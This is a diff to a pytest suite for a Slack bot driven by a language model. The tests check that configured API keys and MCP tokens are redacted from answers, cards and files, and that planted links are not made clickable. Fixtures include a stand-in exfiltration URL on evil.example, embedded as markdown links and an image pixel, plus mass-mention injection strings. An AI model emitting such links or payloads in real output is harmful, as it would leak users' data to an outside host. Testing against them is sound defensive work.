@@ -7,23 +7,29 @@ and an answer that is shared.
 from __future__ import annotations
 
 import asyncio
+import json
 from collections.abc import Awaitable, Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+from pydantic import SecretStr
 from support.bot import Scene, bot_in_workspace
+from support.cards import approve, until_asked
 from support.held_tools import HeldTools
 from support.openai_server import OpenAIServer, text, tool_calls
 from support.patience import UNSTREAMED
 
 from bot.playground import clickable
+from bot.slack.content import ACCEPT_ACTION
+from tools import Context, Elicitation, Registry, tool
 
 Json = dict[str, Any]
 Ask = Callable[[Scene, asyncio.Event], Awaitable[list[Json]]]
 
 PLANTED = "https://evil.example/collect?data=secret"
 TOKEN = "xox" + "b-1234567890-abcdefghij"
+MCP_SECRET = "pens-5e4d3c2b1a"
 WICKED = (
     f"Look at {PLANTED} and [here]({PLANTED}), ![pixel]({PLANTED}), <{PLANTED}|there>. "
     f"<!channel> <!here|here> <! everyone > <!subteam^S0123ABC> &lt;!here&gt; <@{{grace}}> "
@@ -57,15 +63,15 @@ async def _plain_text(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
     return await _one_post(scene, goes_on)
 
 
-async def _a_command(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
+async def _a_command(scene: Scene, goes_on: asyncio.Event, question: str = "Be wicked") -> list[Json]:
     goes_on.set()
-    await scene.ada.command("/ask", "Be wicked", channel="#general")
+    await scene.ada.command("/ask", question, channel="#general")
     await scene.playground.until(lambda: _ending(scene.ada.ephemerals("#general")), what="the answer")
     return scene.ada.ephemerals("#general")
 
 
-async def _a_shared_answer(scene: Scene, goes_on: asyncio.Event) -> list[Json]:
-    shown = await _a_command(scene, goes_on)
+async def _a_shared_answer(scene: Scene, goes_on: asyncio.Event, question: str = "Be wicked") -> list[Json]:
+    shown = await _a_command(scene, goes_on, question)
     assert await scene.ada.press("#general", _ending(shown)[0]["ts"], "share_answer")
     room = scene.playground.workspace.channel("#general")
     await scene.playground.until(
@@ -144,12 +150,60 @@ async def test_wicked_arguments_do_no_harm_in_a_card(tmp_path: Path) -> None:
         assert PLANTED not in str([clickable(message) for message in scene.shown(ts)])
 
 
-async def test_configured_secrets_do_not_leave(tmp_path: Path) -> None:
-    model = OpenAIServer(reply=lambda _request: text("The key is sk-test-", "key-000000, keep it."))
+@pytest.mark.parametrize("ask", WAYS, ids=lambda ask: ask.__name__.strip("_"))
+async def test_configured_secrets_do_not_leave(tmp_path: Path, ask: Ask) -> None:
+    goes_on = asyncio.Event()
+    pieces = ["Look at the key sk-test-", f"key-000000, and {MCP_SECRET}. ", "The end."]
+    model = OpenAIServer(reply=lambda _request: text(*pieces, hold=goes_on))
+    server = {
+        "url": "http://127.0.0.1:9/mcp",
+        "headers": {"Authorization": "${PENS_TOKEN:-" + MCP_SECRET + "}"},
+    }
+    config = tmp_path / "mcp.json"
+    config.write_text(json.dumps({"mcpServers": {"pens": server}}))
+    async with bot_in_workspace(tmp_path, model=model, mcp_config=config) as scene:
+        said = str(await ask(scene, goes_on)) + str(scene.playground.calls)
+        assert "Look at the key [redacted], and [redacted]. The end." in said
+        assert "sk-test-key-000000" not in said
+        assert MCP_SECRET not in said
+
+
+async def test_configured_secrets_are_not_shown_on_cards(tmp_path: Path) -> None:
+    secret = "tvly-9f8e7d6c5b4a"
+
+    async def look_up(word: str, context: Context) -> str:
+        """Look a word up.
+
+        Args:
+            word: the word.
+        """
+        assert context.elicit is not None
+        await context.elicit(Elicitation(f"May I use {secret}?"))
+        return word
+
+    registry = Registry([tool(approval="always")(look_up)])
+    turns = [tool_calls(("look_up", {"word": f"{secret} " * 500})), text("Done.")]
+    model, key = OpenAIServer(turns), SecretStr(secret)
+    async with bot_in_workspace(tmp_path, model=model, tools=registry, tavily_api_key=key) as scene:
+        ts = await scene.ada.say("#general", "@threadloop Look it up")
+        (card,) = await until_asked(scene, ts)
+        assert 'word: "[redacted] [redacted]' in card.text
+        files = [file for message in scene.shown(ts) for file in message.get("files", ())]
+        assert len(files) == 1
+        assert secret.encode() not in scene.playground.workspace.contents[files[0]["id"]]
+        await approve(scene.ada, card)
+        asked = await scene.until_shown("May I use [redacted]?", ts)
+        await scene.ada.press("#general", asked["ts"], ACCEPT_ACTION)
+        await scene.until_shown("Done.", ts)
+        assert secret not in str(scene.shown(ts)) + str(scene.playground.calls)
+
+
+async def test_a_shared_answer_keeps_the_links_of_its_question(tmp_path: Path) -> None:
+    link = "https://wiki.example/page"
+    model = OpenAIServer([text(f"Read {link}, not {PLANTED}. The end.")])
     async with bot_in_workspace(tmp_path, model=model) as scene:
-        answer = await scene.answer(await scene.ada.say("#general", "@threadloop Which key?"))
-        assert "sk-test-key-000000" not in str(scene.playground.calls)
-    assert answer.startswith("The key is ")
+        shown = await _a_shared_answer(scene, asyncio.Event(), f"What of {link}?")
+        assert {url for message in shown for url in clickable(message)} == {link}
 
 
 async def _in_a_thread(scene: Scene, *, then: asyncio.Event | None = None) -> list[Json]:
